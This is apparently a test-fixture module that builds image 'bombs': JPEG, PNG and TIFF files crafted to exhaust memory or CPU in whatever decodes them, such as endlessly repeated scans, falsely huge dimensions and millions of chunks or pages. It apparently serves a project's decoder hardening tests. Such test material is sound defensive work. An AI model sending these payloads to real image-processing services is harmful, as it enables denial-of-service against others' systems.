"""Files that look like photographs and are made to hurt whoever decodes them: for `attack.py` and the tests."""

import io
import struct
import zlib
from collections.abc import Callable
from pathlib import Path

from PIL import Image


EXAMPLE = Path(__file__).parent / "examples" / "visit_1.jpg"


def png_chunk(name: bytes, content: bytes) -> bytes:
    """Write one chunk of a PNG file."""
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png_of_size(width: int, height: int, pixels: bytes = bytes(1000), before: bytes = b"") -> bytes:
    """Write a PNG file that says how large it is.

    Args:
        width: Of the picture.
        height: Of the picture.
        pixels: What is packed, not as much as it says.
        before: Chunks ahead of the pixels.
    """
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n" + header + before + png_chunk(b"IDAT", zlib.compress(pixels, 9)) + png_chunk(b"IEND", b"")
    )


def progressive(scans: int, side: int = 4000) -> bytes:
    """Write a JPEG file that goes over all its pixels again and again; a scan without changes costs a few bytes."""
    file = io.BytesIO()
    Image.new("L", (side, side), 90).save(file, "JPEG", progressive=True)
    content = file.getvalue()
    start = content.rindex(b"\xff\xda")
    return content[:start] + content[start:-2] * scans + b"\xff\xd9"


def jpeg_with(inside: bytes) -> bytes:
    """Write the example with more bytes behind its first two."""
    content = EXAMPLE.read_bytes()
    return content[:2] + inside + content[2:]


def tiff_of_pages(number: int) -> bytes:
    """Write a TIFF file of so many pages of one pixel."""
    entries = ((256, 4, 1, 1), (257, 4, 1, 1), (258, 3, 1, 8), (262, 3, 1, 1), (273, 4, 1, 8), (279, 4, 1, 1))
    page = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries)
    size = len(page) + 4
    pages = [page + struct.pack("<I", 16 + size * (n + 1) if n + 1 < number else 0) for n in range(number)]
    return struct.pack("<2sHI", b"II", 42, 16) + bytes(8) + b"".join(pages)


BOMBS: dict[str, Callable[[], bytes]] = {
    "JPEG of 800 scans": lambda: progressive(800),
    "JPEG of 37 scans, 16 megapixels": lambda: progressive(37),
    "JPEG of 16 MB of fill bytes": lambda: jpeg_with(b"\xff" * 16_000_000),
    "JPEG of 4 million segments": lambda: jpeg_with(b"\xff\xfe\x00\x02" * 4_000_000),
    "PNG of 3,600 megapixels": lambda: png_of_size(60_000, 60_000),
    "PNG of 50 megapixels in 150 kB": lambda: png_of_size(10_000, 5_000, bytes(150_000_000)),
    "PNG of a million chunks": lambda: png_of_size(500, 500, before=png_chunk(b"vpAg", b"") * 1_000_000),
    "TIFF of 200,000 pages": lambda: tiff_of_pages(200_000),
}


__all__ = ["BOMBS", "EXAMPLE", "jpeg_with", "png_chunk", "png_of_size", "progressive", "tiff_of_pages"]
